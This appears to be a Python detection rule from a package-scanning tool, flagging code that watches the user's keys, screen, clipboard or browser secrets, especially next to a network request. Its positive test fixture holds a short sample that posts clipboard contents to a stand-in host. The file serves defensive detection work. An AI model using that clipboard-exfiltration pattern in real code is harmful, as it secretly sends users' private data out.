"""Keys, screens, clipboards or browsers are read."""

from __future__ import annotations

from typing import TYPE_CHECKING

from veln_hook.signals.source.rule import HOLD, Hit, Rule
from veln_hook.source import vocabulary as v

if TYPE_CHECKING:
    from collections.abc import Iterator

    from veln_hook.signals.source.view import View


def _find(view: View) -> Iterator[Hit]:
    for spy in view.of(v.SPY, by_itself=True):
        yield Hit(f"it watches the user ({spy.detail}) without being called", (spy,), HOLD)
    for spy, net, _, _ in view.pairs((v.SPY,), (v.NET,)):
        yield Hit(
            f"it watches the user ({spy.detail}) and reaches {net.detail or 'the network'}", (spy, net), HOLD
        )


RULE = Rule(
    name="spying",
    description=(
        "It records keys, screens or the clipboard, or decrypts a browser's secrets, by itself or next to "
        "a request."
    ),
    grade=HOLD,
    find=_find,
    fires={
        "acme/__init__.py": (
            "import pyperclip, requests\n\ndef go():\n"
            "    requests.post('https://example.test', data=pyperclip.paste())\n"
        )
    },
    quiet={"acme/__init__.py": "import pyperclip\n\ndef paste():\n    return pyperclip.paste()\n"},
    rates="39 per 1,000 malicious clusters, none of 200 popular archives",
)
